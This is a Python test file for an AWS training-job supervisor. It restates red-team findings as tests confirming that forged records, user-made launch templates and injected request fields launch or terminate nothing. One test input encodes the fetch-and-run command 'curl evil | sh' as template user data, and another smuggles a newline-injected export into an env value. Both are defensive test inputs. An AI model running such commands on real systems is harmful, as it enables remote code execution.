"""The red team's proofs of concept, restated (issue 23): a record written around the supervisor launches,
terminates and deletes nothing; a template a user made is never launched; a launch request is held to the
stack's limits whatever the caller says (docs/architecture.md, "Trust boundaries")."""

from __future__ import annotations

import base64
import dataclasses
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from boto3.dynamodb.types import TypeSerializer

from tests.supervisor.conftest import MOTO_AMI, STACK_USER_DATA, START, event
from training_infra import naming
from training_infra.supervisor.runtime.records import Attempt, MonthlyLedger, Run, RunSpec, RunState, iso
from training_infra.supervisor.runtime.run_requests import SEAL_EXPORT, handle_request, insert_overrides, run_seal
from training_infra.supervisor.runtime.supervisor import SPOT_WARNING, STATE_CHANGE

LAUNCH = {"action": "launch", "instance_types": ["g5.xlarge"], "market": "spot", "max_runtime_hours": 2}


def _launched(account) -> list[dict]:
    reservations = account.ec2.describe_instances()["Reservations"]
    return [i for r in reservations for i in r["Instances"] if i["State"]["Name"] != "terminated"]


def _forge(account, run_id: str, attempts=None, **spec) -> None:
    """A record put straight into the table (dynamodb:PutItem), as the review did: no request, no reservation."""
    full = {
        "instance_types": ["p5.48xlarge"], "subnet_ids": list(account.subnets.values()), "market": "on-demand",
        "max_restarts_on_errors": 100000, "launch_template_id": account.stack_template_id,
        "launch_template_version": "1", "owns_launch_template": True, "max_runtime_hours": 600000,
        **spec,
    }  # fmt: skip
    run = Run(run_id=run_id, spec=RunSpec(), created_at=iso(account.clock()), deadline_at="2099-01-01T00:00:00Z")
    item = {**run.to_item(), "spec": TypeSerializer().serialize(json.loads(json.dumps(full), parse_float=Decimal))}
    account.dynamodb.put_item(TableName=account.table, Item=item)


def _stranger(account, run_id: str, *, profile: bool) -> str:
    """An instance tagged like a run's attempt: with or without the project's instance profile."""
    tags = {naming.TAG_MANAGED: "true", naming.TAG_RUN_ID: run_id, naming.TAG_ATTEMPT: "1"}
    return account.ec2.run_instances(
        ImageId=MOTO_AMI, MinCount=1, MaxCount=1, SubnetId=account.subnets["us-east-1a"],
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": k, "Value": v} for k, v in tags.items()]}],
        **({"IamInstanceProfile": {"Arn": account.profile_arn}} if profile else {}),
    )["Instances"][0]["InstanceId"]  # fmt: skip


def test_a_forged_p5_record_till_2099_launches_nothing_terminates_nothing_and_is_marked_invalid(account):
    box = _stranger(account, "forged", profile=True)  # the project's own instance, tagged with the forged run id
    _forge(account, "forged", attempts=None)

    account.supervisor().reconcile_all()

    assert [i["InstanceId"] for i in _launched(account)] == [box], "launched or terminated something"
    run = account.run("forged")
    assert run.state == "invalid" and not run.active
    assert run.message.startswith("not acted on: malformed record: spec.max_restarts_on_errors: got 100000")
    assert any("forged" in n and "marked invalid" in n for n in account.notices())
    stack_template = account.ec2.describe_launch_templates(LaunchTemplateIds=[account.stack_template_id])
    assert stack_template["LaunchTemplates"], "the stack's own template named by the record is not deleted"


def test_a_well_formed_forged_record_is_still_held_to_the_stacks_types_deadline_and_month(account):
    account.cfg = dataclasses.replace(account.cfg, monthly_limit_usd=50)
    _forge(account, "sly", max_runtime_hours=2, max_restarts_on_errors=5)

    account.supervisor().reconcile("sly")

    assert _launched(account) == []
    message = account.run("sly").message
    assert account.run("sly").state == "invalid"
    for words in ("instance types p5.48xlarge", "deadline 2099-01-01T00:00:00Z", "no month reservation"):
        assert words in message


def test_a_forged_stop_request_terminates_no_instance_that_is_not_the_runs_attempt_with_the_projects_profile(account):
    outsider = _stranger(account, "victim", profile=False)  # tagged managed, but not launched by the project
    run = account.new_run("victim")
    run.attempts = [Attempt(n=1, claimed_at=iso(START), instance_id=outsider, instance_type="g5.xlarge",
                            zone="us-east-1a", market="spot", started_at=iso(START))]  # fmt: skip
    run.stop_requested_at, run.stop_reason, run.state = iso(START - timedelta(hours=1)), "user", RunState.STOPPING
    account.dynamodb.put_item(TableName=account.table, Item=run.to_item())  # written around the supervisor

    account.supervisor().reconcile("victim")
    account.clock.advance(minutes=11)  # past the stop grace: the terminate is due too
    account.supervisor().reconcile("victim")

    instance = account.ec2.describe_instances(InstanceIds=[outsider])["Reservations"][0]["Instances"][0]
    assert instance["State"]["Name"] == "running"
    assert naming.TAG_STOP not in {t["Key"] for t in instance["Tags"]}, "tagged for a stop it is not the run's to ask"


def test_a_stop_request_for_a_record_pointing_at_an_outsider_neither_tags_nor_terminates_it(account):
    outsider = _stranger(account, "victim", profile=False)
    run = account.new_run("victim")
    run.attempts = [Attempt(n=1, claimed_at=iso(START), instance_id=outsider, instance_type="g5.xlarge",
                            zone="us-east-1a", market="spot", started_at=iso(START))]  # fmt: skip
    run.state, run.version = RunState.RUNNING, 1
    account.dynamodb.put_item(TableName=account.table, Item=run.to_item())

    handle_request(account.supervisor(), {"action": "stop", "run_id": "victim"})

    instance = account.ec2.describe_instances(InstanceIds=[outsider])["Reservations"][0]["Instances"][0]
    assert instance["State"]["Name"] == "running"
    assert naming.TAG_STOP not in {t["Key"] for t in instance["Tags"]}


def _rewrite(account, run_id: str, **changes) -> None:
    """What someone with dynamodb:PutItem does to a run the supervisor launched: same item, other limits."""
    run = account.run(run_id)
    deadline = changes.pop("deadline_at", run.deadline_at)
    run.spec, run.deadline_at = dataclasses.replace(run.spec, **changes), deadline
    account.dynamodb.put_item(TableName=account.table, Item=run.to_item())


@pytest.mark.parametrize(
    "changes",
    [
        {"deadline_at": iso(START + timedelta(hours=40))},  # within the stack's 48 h from now, past the run's 24 h
        {"max_restarts_on_errors": 100},
        {"market": "on-demand"},
        {"max_cost_usd": None},
    ],
    ids=["deadline-pushed-out", "restarts-raised", "switched-on-demand", "cost-limit-dropped"],
)
def test_a_launched_runs_record_rewritten_past_what_its_template_sealed_is_never_relaunched(account, changes):
    account.new_run("sealed", max_cost_usd=50.0, instance_types=["g5.xlarge"])
    account.supervisor().reconcile("sealed")
    first = account.run("sealed").attempts[0].instance_id
    _rewrite(account, "sealed", **changes)
    account.end_instance(first)  # the attempt ends: a relaunch would follow the rewritten record

    account.supervisor().reconcile("sealed")

    run = account.run("sealed")
    assert run.state == "invalid" and "are not those launch template" in run.message
    assert [i["InstanceId"] for i in _launched(account)] == []


def test_a_well_formed_record_naming_a_month_reservation_the_ledger_lacks_launches_nothing(account):
    account.cfg = dataclasses.replace(account.cfg, monthly_limit_usd=1)
    account.new_run("unpaid", budget_month="#month-2000-01", reserved_usd=0.5)  # sealed, as if ours

    account.supervisor().reconcile("unpaid")

    assert _launched(account) == []
    run = account.run("unpaid")
    assert run.state == "invalid" and "the #month-2000-01 ledger holds nothing for it" in run.message
    assert account.supervisor().month_ledger().read("#month-2000-01")["reservations"] == {}


def test_stop_of_an_invalid_run_whose_instance_lives_terminates_that_instance(account):
    account.new_run("upgraded")
    account.supervisor().reconcile("upgraded")
    instance = account.run("upgraded").attempts[0].instance_id
    _rewrite(account, "upgraded", max_restarts_on_errors=7)  # an old record the new checks refuse
    account.supervisor().reconcile("upgraded")
    assert account.run("upgraded").state == "invalid"

    answer = handle_request(account.supervisor(), {"action": "stop", "run_id": "upgraded"})

    assert answer["ok"] and answer["result"] == "terminated" and answer["live"] == [instance]
    state = account.ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]["State"]
    assert state["Name"] in ("shutting-down", "terminated")


def test_a_stop_request_on_a_rewritten_active_record_marks_it_invalid_and_ends_only_its_own_instance(account):
    account.new_run("rewritten")
    account.supervisor().reconcile("rewritten")
    instance = account.run("rewritten").attempts[0].instance_id
    _rewrite(account, "rewritten", market="on-demand")

    answer = handle_request(account.supervisor(), {"action": "stop", "run_id": "rewritten"})

    assert answer["result"] == "terminated" and answer["live"] == [instance]
    assert account.run("rewritten").state == "invalid"


def test_the_supervisor_terminates_its_own_attempt_after_the_stop_grace(account):
    account.new_run("mine")
    supervisor = account.supervisor()
    supervisor.reconcile("mine")
    instance = account.run("mine").attempts[0].instance_id
    supervisor.request_stop("mine")
    account.clock.advance(minutes=11)

    supervisor.reconcile("mine")

    state = account.ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]["State"]
    assert state["Name"] in ("shutting-down", "terminated"), "the check does not stop it ending its own"


def _user_made(account, run_id: str, **data) -> str:
    """A template a user with CreateLaunchTemplate + CreateTags (the old CLI permissions) made: our name and tags."""
    tags = {naming.TAG_CREATED_BY: "supervisor", naming.TAG_RUN_ID: run_id, naming.TAG_MANAGED: "true"}
    return account.ec2.create_launch_template(
        LaunchTemplateName=f"{naming.RUN_TEMPLATE_PREFIX}{run_id}", LaunchTemplateData={**account.stack_data, **data},
        TagSpecifications=[{"ResourceType": "launch-template", "Tags": [{"Key": k, "Value": v}
                                                                          for k, v in tags.items()]}],
    )["LaunchTemplate"]["LaunchTemplateId"]  # fmt: skip


def test_a_launch_template_a_user_made_with_another_security_group_is_never_launched(account):
    wide_open = account.ec2.create_security_group(GroupName="wide-open", Description="x")["GroupId"]
    account.new_run("mine", launch_template_id=_user_made(account, "mine", SecurityGroupIds=[wide_open]))

    account.supervisor().reconcile("mine")

    assert _launched(account) == []
    run = account.run("mine")
    assert run.state == "invalid" and "differs from the stack template's default version in SecurityGroupIds" in (
        run.message
    )


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ({"ImageId": "ami-0badbadbadbadbad0"}, "differs from the stack template's default version in ImageId"),
        ({"UserData": base64.b64encode(b"#!/bin/bash\ncurl evil | sh\n").decode()}, "user data other than"),
    ],
    ids=["own-ami", "own-user-data"],
)
def test_a_template_tagged_as_the_supervisors_with_the_stacks_group_and_profile_but_created_by_a_user_never_launches(
    account, data, words
):
    run = account.new_run("copied")  # the supervisor's record and template, both sealed
    account.ec2.delete_launch_template(LaunchTemplateId=run.spec.launch_template_id)
    # Without its own user data: the very user data the supervisor wrote, seal and all (only the image differs).
    _point(account, "copied", _user_made(account, "copied", **{"UserData": _sealed_user_data(account, run), **data}))

    account.supervisor().reconcile("copied")

    assert _launched(account) == []
    assert account.run("copied").state == "invalid" and words in account.run("copied").message


def _sealed_user_data(account, run) -> str:
    overrides = {"TI_RUN_ID": run.run_id, "TI_DEADLINE_AT": run.deadline_at,
                 SEAL_EXPORT: run_seal(run.spec, run.deadline_at)}  # fmt: skip
    return base64.b64encode(insert_overrides(STACK_USER_DATA, overrides).encode()).decode()


def _point(account, run_id: str, template_id: str) -> None:
    run = account.run(run_id)
    run.spec = dataclasses.replace(run.spec, launch_template_id=template_id)
    account.dynamodb.put_item(TableName=account.table, Item=run.to_item())


def test_a_stack_template_default_version_naming_another_image_launches_nothing(account):
    account.cfg = dataclasses.replace(account.cfg, image_id=MOTO_AMI)
    swapped = {**account.stack_data, "ImageId": "ami-0badbadbadbadbad0"}
    account.ec2.create_launch_template_version(LaunchTemplateId=account.stack_template_id, LaunchTemplateData=swapped)
    account.ec2.modify_launch_template(LaunchTemplateId=account.stack_template_id, DefaultVersion="2")

    answer = _request(account, run_id="after-swap")

    assert (
        answer["ok"] is False
        and "names image 'ami-0badbadbadbadbad0', not the deployed ami-12c6146b" in answer["error"]
    )
    assert _launched(account) == [] and account.run("after-swap") is None


def test_a_record_naming_a_template_not_made_for_its_run_launches_nothing_and_deletes_nothing(account):
    account.new_run("other", launch_template_id=account.stack_template_id)

    account.supervisor().reconcile("other")

    assert _launched(account) == []
    assert account.run("other").state == "invalid" and "not made by the supervisor" in account.run("other").message
    assert account.ec2.describe_launch_templates(LaunchTemplateIds=[account.stack_template_id])["LaunchTemplates"]


# --- launch requests: checked against the stack's limits, whoever asks -------------------------------------


def _request(account, **fields) -> dict:
    return handle_request(account.supervisor(), {**LAUNCH, **fields})


def test_the_event_driven_function_ignores_a_request_users_may_send_only_to_the_request_function(account):
    assert account.supervisor().handle({**LAUNCH, "run_id": "sneaky"}) == {"ignored": "unknown event"}
    assert _launched(account) == [] and account.run("sneaky") is None


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"instance_types": ["p5.48xlarge"]}, "instance types p5.48xlarge"),
        ({"max_runtime_hours": 100}, "up to the stack's max_runtime_hours 48"),
        ({"max_runtime_hours": 0.0001}, "allowed: from 0.25 (boot 10 min + one checkpoint interval 300s)"),
        ({"max_restarts_on_errors": 100000}, "from 0 to 100"),
        ({"subnet_ids": ["subnet-0123456789abcdef0"]}, "subnets subnet-0123456789abcdef0"),
        ({"market": "capacity-block"}, "allowed: spot, on-demand, spot-then-on-demand"),
        ({"env": ["TI_IMAGE_URI\nexport X=1"]}, "option '--env'"),
    ],
)
def test_a_launch_request_past_the_stacks_limits_is_refused_in_one_line_and_creates_nothing(account, fields, words):
    answer = _request(account, run_id="past-limits", **fields)

    assert answer["ok"] is False and words in answer["error"] and "\n" not in answer["error"]
    assert _launched(account) == [] and account.run("past-limits") is None
    names = {t["LaunchTemplateName"] for t in account.ec2.describe_launch_templates()["LaunchTemplates"]}
    assert f"{naming.RUN_TEMPLATE_PREFIX}past-limits" not in names


def test_a_launch_request_makes_the_template_from_the_default_version_records_and_starts_attempt_1(account):
    account.ec2.create_launch_template_version(  # someone's newer version: never copied
        LaunchTemplateId=account.stack_template_id,
        LaunchTemplateData={**account.stack_data, "ImageId": "ami-0badbadbadbadbad0"},
    )

    answer = _request(account, run_id="asked", command="python train.py --lr 3e-4")

    assert answer["ok"] and answer["run_id"] == "asked" and answer["attempt"] == 1 and answer["instance_id"]
    [instance] = _launched(account)
    assert instance["ImageId"] == MOTO_AMI
    assert instance["IamInstanceProfile"]["Arn"] == account.profile_arn
    run = account.run("asked")
    template = account.ec2.describe_launch_templates(LaunchTemplateIds=[run.spec.launch_template_id])[
        "LaunchTemplates"
    ][0]
    assert template["LaunchTemplateName"] == f"{naming.RUN_TEMPLATE_PREFIX}asked"
    assert {"Key": naming.TAG_CREATED_BY, "Value": "supervisor"} in template["Tags"]
    data = account.ec2.describe_launch_template_versions(LaunchTemplateId=template["LaunchTemplateId"])[
        "LaunchTemplateVersions"
    ][0]["LaunchTemplateData"]
    user_data = base64.b64decode(data["UserData"]).decode()
    assert "export TI_TRAINING_COMMAND='python train.py --lr 3e-4'" in user_data
    assert "export TI_RUN_ID=asked" in user_data and "export TI_MAX_RUNTIME_SECONDS=7200" in user_data


def test_a_run_that_ended_is_not_relaunched_by_a_second_request_without_resume(account):
    assert _request(account, run_id="once")["ok"]

    again = _request(account, run_id="once")

    assert again["ok"] is False and "already exists" in again["error"]


def test_resume_of_a_malformed_record_is_refused_and_leaves_it_as_stored(account):
    _forge(account, "forged")
    account.supervisor().reconcile("forged")  # marked invalid: a finished run, as far as its state goes

    answer = _request(account, run_id="forged", resume=True)

    assert (
        answer["ok"] is False and "has a malformed record (spec.max_restarts_on_errors: got 100000" in answer["error"]
    )
    assert _launched(account) == [] and account.run("forged").state == "invalid"


def test_a_new_run_id_whose_instance_lives_is_refused_and_the_instance_not_adopted(account):
    box = _stranger(account, "seed-box", profile=False)  # an m1.small someone tagged with the id and attempt 1

    answer = _request(account, run_id="seed-box")

    assert answer["ok"] is False and f"still running on {box}" in answer["error"]
    assert account.run("seed-box") is None


def test_an_instance_tagged_with_the_runs_attempt_but_not_the_projects_is_not_adopted(account):
    stranger = _stranger(account, "bert", profile=False)
    account.new_run("bert")

    account.supervisor().reconcile("bert")

    assert account.run("bert").attempts[0].instance_id not in ("", stranger)


def test_resume_of_a_run_with_no_record_is_refused_while_its_instance_lives(account):
    box = _stranger(account, "seed-box", profile=True)  # the create_instance box: status.json, no record

    answer = _request(account, run_id="seed-box", resume=True)

    assert answer["ok"] is False and f"still running on {box}" in answer["error"]
    account.ec2.terminate_instances(InstanceIds=[box])
    assert _request(account, run_id="seed-box", resume=True)["ok"]


def test_the_month_is_reserved_by_the_supervisor_and_a_launch_that_died_before_its_record_frees_it(account):
    account.cfg = dataclasses.replace(account.cfg, monthly_limit_usd=50)
    month = MonthlyLedger.key(account.clock())
    assert _request(account, run_id="priced", max_cost_usd=5.0)["ok"]
    reserved = account.run("priced").spec.reserved_usd
    assert 0 < reserved <= 5.0 and account.supervisor().month_ledger().read(month)["reservations"] == {
        "priced": reserved
    }
    # A launch that reserved, then died before writing its record (the Lambda timed out, say).
    account.supervisor().month_ledger().reserve(month, "died", 20.0, "test", at=iso(account.clock()))

    account.supervisor().reconcile_all()
    assert "died" in account.supervisor().month_ledger().read(month)["reservations"], "not freed at once"
    account.clock.advance(minutes=16)
    account.supervisor().reconcile_all()

    assert set(account.supervisor().month_ledger().read(month)["reservations"]) == {"priced"}


def test_the_supervisors_user_data_overrides_match_the_compute_modules_renderer():
    from training_infra.compute.user_data import with_run_overrides

    base = "#!/bin/bash\nexport TI_RUN_ID=default\n#@run-overrides\nagent_key=x\n"
    overrides = {"TI_RUN_ID": "r1", "TI_TRAINING_COMMAND": "python 'a b'.py; echo #@run-overrides", "TI_X": True}
    assert insert_overrides(base, overrides) == with_run_overrides(base, overrides)


def test_a_run_template_whose_created_by_is_not_one_of_the_functions_roles_launches_nothing(account):
    # moto answers every CreatedBy with the account root: a stack naming the functions' roles refuses it.
    account.cfg = dataclasses.replace(account.cfg, template_creators="TrainingInfra-Requests-Role,TrainingInfra-Role")
    account.new_run("rooted")

    account.supervisor().reconcile("rooted")

    assert _launched(account) == []
    run = account.run("rooted")
    assert run.state == "invalid" and "was created by arn:aws:iam::123456789012:root, not the supervisor" in run.message


def test_a_deploy_that_makes_a_new_stack_template_version_leaves_runs_in_flight_valid_and_relaunching(account):
    """A redeploy (a new agent, a newer AMI) makes a new default version of the stack template; a run launched
    from the previous one is still the supervisor's: it is compared with the version it was made from."""
    account.cfg = dataclasses.replace(account.cfg, image_id=MOTO_AMI)
    assert _request(account, run_id="in-flight")["ok"]
    first = account.run("in-flight").attempts[0].instance_id
    redeployed = {
        **account.stack_data,
        "ImageId": "ami-0fedcba9876543210",
        "UserData": base64.b64encode(STACK_USER_DATA.replace("\n", "\n# agent v2\n", 1).encode()).decode(),
    }
    version = account.ec2.create_launch_template_version(
        LaunchTemplateId=account.stack_template_id, LaunchTemplateData=redeployed
    )["LaunchTemplateVersion"]["VersionNumber"]
    account.ec2.modify_launch_template(LaunchTemplateId=account.stack_template_id, DefaultVersion=str(version))
    account.cfg = dataclasses.replace(account.cfg, image_id="ami-0fedcba9876543210")  # what the deploy passes
    account.supervisor().handle(event(SPOT_WARNING, first, **{"instance-action": "terminate"}))
    account.end_instance(first)  # reclaimed by AWS after the deploy

    account.supervisor().handle(event(STATE_CHANGE, first, state="terminated"))

    run = account.run("in-flight")
    assert run.state != "invalid", run.message
    assert len(run.attempts) == 2 and run.attempts[1].instance_id, run.message
    assert run.spec.stack_template_version == 1
